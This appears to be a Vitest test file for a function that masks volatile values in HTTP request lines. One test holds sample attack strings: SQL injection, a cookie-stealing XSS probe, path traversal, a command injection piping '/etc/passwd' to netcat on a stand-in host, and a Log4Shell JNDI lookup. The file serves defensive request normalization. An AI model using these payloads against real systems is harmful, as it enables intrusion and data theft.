import { describe, expect, it } from 'vitest';
import { maskVolatile } from '../../src/normalize/mask-volatile.js';

describe('maskVolatile', () => {
  it('gives one text per request shape', () => {
    expect(maskVolatile('GET /item/123?page=4')).toBe(maskVolatile('GET /item/98765?page=12'));
    expect(maskVolatile('GET /o/3f2504e0-4f89-11d3-9a0c-0305e82c3301')).toBe('GET /o/uuid');
    expect(maskVolatile('GET /s?sid=a8f3k2l9q0w8e7r6t5y4u3i2')).toBe('GET /s?sid=token');
    expect(maskVolatile('GET /x?h=9e107d9d372bb6826bd81d3542a419d6')).toBe('GET /x?h=hex');
    expect(maskVolatile('GET /proxy?to=10.0.0.12')).toBe('GET /proxy?to=ip');
  });

  it('keeps attack syntax visible', () => {
    const attacks = [
      "GET /item.php?id=1' OR '1'='1 --",
      'GET /search?q=<script>alert(document.cookie)</script>',
      'GET /../../../../etc/passwd',
      'GET /cgi-bin/test?cmd=;cat /etc/passwd|nc evil 4444',
      'GET /q?x=UNION SELECT username,password FROM users',
      'GET /${jndi:ldap://evil/a}',
    ];
    for (const attack of attacks) {
      const masked = maskVolatile(attack);
      for (const marker of ["'", '<script>', '../', ';cat', '|', 'UNION SELECT', '${jndi:']) {
        if (attack.includes(marker)) expect(masked).toContain(marker);
      }
    }
  });

  it('masks every digit run to a single token', () => {
    expect(maskVolatile('GET /a/123/b/7?x=2024-01-05')).toBe('GET /a/0/b/0?x=0-0-0');
  });

  it('leaves long words without digits alone', () => {
    expect(maskVolatile('GET /administratorcontrolpanelsettings')).toBe('GET /administratorcontrolpanelsettings');
    expect(maskVolatile('GET /deadbeefcafebabe')).toBe('GET /deadbeefcafebabe');
  });
});
